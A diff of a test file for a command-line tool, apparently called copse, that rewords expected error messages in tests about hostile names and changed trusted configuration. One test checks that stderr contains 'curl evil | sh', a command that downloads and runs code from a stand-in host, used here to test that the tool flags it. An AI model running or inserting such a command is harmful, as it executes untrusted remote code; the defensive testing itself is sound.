@@ -47,7 +47,7 @@ describe('fault 44: hostile names', () => {
     expect(await variantsProblems(`name: ${quoted}\nprompt: x\nvariants: { a: x }\n`)).toHaveLength(1);
     expect(await variantsProblems(`${HEAD}variants: { a: x }\nverify: { ${quoted}: x }\n`)).toHaveLength(1);
     expect(sentences(await variantsProblems(`${HEAD}variants: { a: { needs: [${quoted}] } }\n`))).toContain(
-      'is no variant of this file',
+      'is not a variant of this file',
     );
   });
 
@@ -237,7 +237,7 @@ describe('fault 64: what was approved changes', () => {
     const again = await copse('trust');
     expect(again).toMatchObject({ exit: 3 });
     expect(again.stderr).toContain('curl evil | sh');
-    expect(await copse('trust', hash)).toMatchObject({ exit: 3, stderr: expect.stringContaining('not the hash') });
+    expect(await copse('trust', hash)).toMatchObject({ exit: 3, stderr: expect.stringContaining('The hash does not match') });
     await writeFile(join(root, '.worktreerc'), 'env: [TOKEN]\n');
     await writeFile(join(root, 'variants.yaml'), FILE);
     expect(await copse('trust')).toMatchObject({ exit: 3, stderr: expect.stringContaining('TOKEN') });
